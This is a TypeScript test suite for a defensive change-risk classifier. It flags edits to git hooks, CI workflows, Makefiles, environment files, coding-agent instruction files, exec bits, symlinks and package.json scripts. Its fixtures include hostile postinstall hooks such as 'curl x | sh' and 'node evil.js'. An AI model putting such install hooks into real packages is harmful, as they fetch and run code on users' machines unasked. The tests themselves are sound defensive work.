import { after, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import type { NodeState } from '../../src/core/changes/changeSet.js';
import { riskClassifier, type RiskInput } from '../../src/core/changes/riskRules.js';
import { changeSetFor, fakeBase, sha256 } from '../helpers/fakeChangeSet.js';
import { removeTempDirs } from '../helpers/tempWorkspace.js';

after(removeTempDirs);

const file = (text: string, mode = 0o644): NodeState => ({ kind: 'file', mode, size: Buffer.byteLength(text), sha256: sha256(text) });
const modified = (path: string, beforeText = 'old\n', afterText = 'new\n', beforeMode = 0o644, afterMode = 0o644): RiskInput => ({
  change: { path, status: 'modified', before: file(beforeText, beforeMode), after: file(afterText, afterMode) },
  beforeText,
  afterText,
});
const added = (path: string, afterText = 'new\n', mode = 0o644): RiskInput => ({ change: { path, status: 'added', after: file(afterText, mode) }, afterText });

describe('riskClassifier: risky paths', () => {
  const classify = riskClassifier();
  const risky: Array<[string, RegExp]> = [
    ['.git/hooks/pre-commit', /git hooks and configuration/],
    ['sub/.git/config', /git hooks and configuration/],
    ['.gitattributes', /git attributes/],
    ['sub/dir/.gitattributes', /git attributes/],
    ['.gitmodules', /submodule/],
    ['.githooks/pre-commit', /git hooks/],
    ['.husky/pre-push', /git hooks/],
    ['.pre-commit-config.yaml', /commit hooks/],
    ['.vscode/tasks.json', /VS Code/],
    ['.vscode/settings.json', /VS Code/],
    ['.vscode/launch.json', /VS Code/],
    ['project.code-workspace', /VS Code workspace/],
    ['.devcontainer/devcontainer.json', /dev container/],
    ['.devcontainer.json', /dev container/],
    ['.github/workflows/ci.yml', /CI workflow/],
    ['.github/actions/setup/action.yml', /CI workflow/],
    ['.gitlab-ci.yml', /CI pipeline/],
    ['Jenkinsfile', /CI pipeline/],
    ['Makefile', /Makefile/],
    ['sub/Makefile', /Makefile/],
    ['deep/er/GNUmakefile', /Makefile/],
    ['rules.mk', /Makefile/],
    ['.npmrc', /package manager or shell environment/],
    ['packages/a/.npmrc', /package manager or shell environment/],
    ['.envrc', /package manager or shell environment/],
    ['.env.local', /package manager or shell environment/],
    ['.mcp.json', /coding-agent/],
    ['.claude/settings.json', /coding-agent/],
    ['CLAUDE.md', /coding-agent/],
    ['AGENTS.md', /coding-agent/],
    ['.cursor/rules/x.mdc', /coding-agent/],
    ['.cursorrules', /coding-agent/],
    ['.github/copilot-instructions.md', /coding-agent/],
    ['.airlock.json', /Airlock team policy/],
    // Case-insensitive: on macOS and Windows these are the same files.
    ['.VSCode/Tasks.json', /VS Code/],
    ['.GitHub/Workflows/CI.yml', /CI workflow/],
    ['MAKEFILE', /Makefile/],
    ['.Claude/Settings.json', /coding-agent/],
    ['.AIRLOCK.JSON', /Airlock team policy/],
    ['.GIT/hooks/post-checkout', /git hooks and configuration/],
  ];
  for (const [rel, reason] of risky) {
    test(`${rel} is risky`, () => {
      const reasons = classify(modified(rel));
      assert.equal(reasons.length, 1, `one reason expected, got ${JSON.stringify(reasons)}`);
      assert.match(reasons[0]!, reason);
    });
  }

  const plain = ['src/index.ts', 'README.md', 'docs/Makefile.md', '.vscode/extensions-notes.md', 'src/.vscode/tasks.json', 'github/workflows/ci.yml', '.gitignore', 'notes/CLAUDE.md.bak'];
  for (const rel of plain) {
    test(`${rel} is not risky`, () => {
      assert.deepEqual(classify(modified(rel)), []);
      assert.deepEqual(classify(added(rel)), []);
    });
  }

  test('a rename is judged by its old path too', () => {
    const input: RiskInput = { change: { path: 'docs/old-makefile.txt', oldPath: 'Makefile', status: 'renamed', before: file('all:\n'), after: file('all:\n') }, beforeText: 'all:\n', afterText: 'all:\n' };
    assert.deepEqual(classify(input), ['Makefile (runs on the host with `make`)']);
  });

  test('deleting a risky file is risky', () => {
    assert.deepEqual(classify({ change: { path: '.github/workflows/ci.yml', status: 'deleted', before: file('on: push\n') } }), ['CI workflow']);
  });

  test('extra globs add a reason naming the pattern', () => {
    const withExtra = riskClassifier(['secrets/**']);
    assert.deepEqual(withExtra(added('secrets/prod/key.pem')), ['matches the configured risky pattern secrets/**']);
    assert.deepEqual(withExtra(added('src/secrets.ts')), []);
    // Built-in rules still apply alongside the extra ones.
    assert.match(withExtra(added('Makefile')).join(), /Makefile/);
    // The extra glob is case-insensitive like the built-in list.
    assert.deepEqual(withExtra(added('Secrets/a')), ['matches the configured risky pattern secrets/**']);
  });

  test('a file matching a built-in and an extra rule gets both reasons', () => {
    assert.deepEqual(riskClassifier(['**/*.yml'])(modified('.github/workflows/ci.yml')), ['CI workflow', 'matches the configured risky pattern **/*.yml']);
  });
});

describe('riskClassifier: exec bits and symlinks', () => {
  const classify = riskClassifier();

  test('a new file with an exec bit is flagged', () => {
    assert.deepEqual(classify(added('tools/run.sh', '#!/bin/sh\n', 0o755)), ['exec bit is new']);
    assert.deepEqual(classify(added('tools/run.sh', '#!/bin/sh\n', 0o744)), ['exec bit is new']);
  });

  test('an existing file gaining the exec bit is flagged', () => {
    assert.deepEqual(classify(modified('tools/run.sh', 'a\n', 'a\n', 0o644, 0o755)), ['exec bit is new']);
  });

  test('an existing exec file edited keeps no exec flag', () => {
    assert.deepEqual(classify(modified('tools/run.sh', '#!/bin/sh\necho a\n', '#!/bin/sh\necho b\n', 0o755, 0o755)), []);
  });

  test('a file losing its exec bit is not flagged', () => {
    assert.deepEqual(classify(modified('tools/run.sh', 'a\n', 'a\n', 0o755, 0o644)), []);
  });

  test('a symlink is flagged', () => {
    const reasons = classify({ change: { path: 'docs/link', status: 'added', after: { kind: 'symlink', mode: 0o777, size: 12, target: '../README.md' } } });
    assert.equal(reasons.length, 1);
    assert.match(reasons[0]!, /^symlink/);
  });

  test('a file replaced by a symlink is flagged', () => {
    const reasons = classify({ change: { path: 'a.txt', status: 'typechange', before: file('a\n'), after: { kind: 'symlink', mode: 0o777, size: 5, target: 'b.txt' } } });
    assert.match(reasons.join(), /symlink/);
  });
});

describe('riskClassifier: package.json', () => {
  const classify = riskClassifier();
  const pkg = (extra: Record<string, unknown>) => JSON.stringify({ name: 'x', version: '1.0.0', dependencies: { left: '1.0.0' }, ...extra }, null, 2) + '\n';

  test('a changed scripts.postinstall is flagged', () => {
    const reasons = classify(modified('package.json', pkg({ scripts: { test: 'node t' } }), pkg({ scripts: { test: 'node t', postinstall: 'curl x | sh' } })));
    assert.deepEqual(reasons, ['package.json changes scripts (runs on install or run)']);
  });

  test('a nested package.json is judged the same way', () => {
    const reasons = classify(modified('packages/a/package.json', pkg({}), pkg({ bin: { a: 'a.js' }, scripts: { prepare: 'x' } })));
    assert.deepEqual(reasons, ['package.json changes scripts, bin (runs on install or run)']);
  });

  test('only a dependency version change is not flagged', () => {
    const before = pkg({ scripts: { test: 'node t' } });
    const afterText = before.replace('"left": "1.0.0"', '"left": "1.2.0"');
    assert.notEqual(afterText, before);
    assert.deepEqual(classify(modified('package.json', before, afterText)), []);
  });

  test('a new package.json with scripts is flagged', () => {
    assert.deepEqual(classify(added('package.json', pkg({ scripts: { install: 'x' } }))), ['package.json changes scripts (runs on install or run)']);
  });

  test('a package.json that does not parse is flagged', () => {
    assert.deepEqual(classify(modified('package.json', pkg({}), '{ "scripts": ')), ['package.json could not be parsed; it may hide script changes']);
    assert.deepEqual(classify({ change: { path: 'package.json', status: 'modified', before: file('{}'), after: file('x') }, beforeText: '{}' }), [
      'package.json could not be parsed; it may hide script changes',
    ]);
  });

  test('through buildChangeSet: postinstall flagged, dependency bump not', () => {
    const before = pkg({ scripts: { test: 'node t' } });
    const fixture = fakeBase({ 'package.json': { content: before }, 'lib/package.json': { content: before } });
    const changeSet = changeSetFor(fixture, {
      'package.json': { content: pkg({ scripts: { test: 'node t', postinstall: 'node evil.js' } }) },
      'lib/package.json': { content: before.replace('"left": "1.0.0"', '"left": "2.0.0"') },
    });
    const byPath = Object.fromEntries(changeSet.files.map((change) => [change.path, change.risk]));
    assert.deepEqual(byPath, { 'lib/package.json': [], 'package.json': ['package.json changes scripts (runs on install or run)'] });
  });
});
